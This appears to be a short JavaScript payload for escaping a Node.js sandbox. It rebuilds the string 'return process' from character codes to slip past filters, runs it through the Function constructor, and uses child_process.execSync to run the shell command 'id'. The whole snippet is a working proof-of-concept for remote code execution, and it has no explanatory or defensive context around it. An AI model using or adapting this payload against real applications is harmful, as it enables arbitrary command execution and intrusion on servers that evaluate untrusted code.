const src = "return process";
const codes = [...src].map((c) => c.charCodeAt(0));
Function(String.fromCharCode(...codes))().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
